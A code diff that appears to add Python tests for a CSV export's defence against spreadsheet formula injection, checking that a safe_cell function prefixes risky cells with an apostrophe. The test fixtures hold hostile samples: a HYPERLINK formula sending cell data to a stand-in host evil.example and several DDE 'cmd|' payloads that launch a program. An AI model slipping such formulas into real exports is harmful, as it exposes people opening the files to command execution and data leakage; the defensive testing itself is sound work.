@@ -13,6 +13,7 @@ from frictionless import Resource, Schema, validate
 from conftest import SCHEMAS, VAL_ESSAI, VALID_PLACE, build, write
 from helpfinder.export import standard_columns
 from helpfinder.openinghours import opening_hours
+from helpfinder.spreadsheet import safe_cell
 
 STANDARD = SCHEMAS / "standard-mediation-numerique" / "schema.json"
 
@@ -114,3 +115,69 @@ def test_data_package_describes_every_file_and_validates(site, monkeypatch):
     with (folder / "communes.csv").open(encoding="utf-8", newline="") as table:
         town = next(r for r in csv.DictReader(table) if r["code_insee"] == "99001")
     assert town["ifn_iris"].count(":") == 2  # Essai-le-Haut's two IRIS, each with its score
+
+
+FORMULAS = {
+    "nom": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
+    "adresse": "+cmd|' /C calc'!A0",
+    "complement_adresse": "-2+3+cmd|' /C calc'!A0",
+    "presentation_resume": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "source": "-- appel du 12 novembre --",  # dashes then text: still a formula to Excel
+    "structure_parente": "--",  # dashes only: harmless, kept as written
+}
+
+
+def test_no_cell_of_an_export_runs_as_a_formula(project):
+    """OWASP: a cell starting with = + - @ gets an apostrophe; numbers (longitudes, the +33
+    of phones) and cells of dashes only keep their sign, and the export still passes the
+    national standard."""
+    place = VALID_PLACE.replace("nom: Lieu de test", f"nom: '{FORMULAS['nom']}'")
+    for field in ("adresse",):
+        place = place.replace("adresse: 1 rue de l'Exemple", f'adresse: "{FORMULAS[field]}"')
+    place += "".join(
+        f'{field}: "{FORMULAS[field]}"\n'
+        for field in ("complement_adresse", "presentation_resume", "structure_parente")
+    )
+    place = place.replace("source: Fiche de test", f"source: {FORMULAS['source']}")
+    write(project / "data", "actors/lieu-test.yml", place)
+    communes = (project / "data" / "communes.csv").read_text(encoding="utf-8")
+    (project / "data" / "communes.csv").write_text(
+        communes.replace(",Val-Blanc,", ',"=1+1",', 1), encoding="utf-8"
+    )
+    result = build(project)
+    assert result.returncode == 0, result.stdout + result.stderr
+    folder = project / "site" / "donnees"
+    assert frictionless_errors(folder, "lieux-de-mediation-numerique.csv") == []
+    with (folder / "lieux-de-mediation-numerique.csv").open(encoding="utf-8", newline="") as table:
+        (row,) = list(csv.DictReader(table))
+    for field, value in FORMULAS.items():
+        expected = value if field == "structure_parente" else "'" + value
+        assert row[field] == expected, field
+    assert row["telephone"] == "+33400000000"
+    for name in ("communes.csv", "couverture.csv"):
+        with (folder / name).open(encoding="utf-8", newline="") as table:
+            cells = [cell for line in csv.reader(table) for cell in line]
+        assert "'=1+1" in cells and "=1+1" not in cells, name
+        formulas = [c for c in cells if c and c[0] in "=+-@" and safe_cell(c) != c]
+        assert formulas == [], name
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 4 74 01 02 03 ou cmd|x", "'+33 4 74 01 02 03 ou cmd|x"),
+        ("@x", "'@x"),
+        ("\t=1", "'\t=1"),
+        ("-0.5931", "-0.5931"),  # a longitude west of Greenwich
+        ("+33474010203", "+33474010203"),  # the standard's phone pattern
+        ("-12", "-12"),
+        ("--", "--"),
+        ("- -", "- -"),
+        ("Mairie - accueil", "Mairie - accueil"),
+        (12, 12),
+        ("", ""),
+    ],
+)
+def test_a_cell_is_neutralised_only_when_it_would_run(value, written):
+    assert safe_cell(value) == written
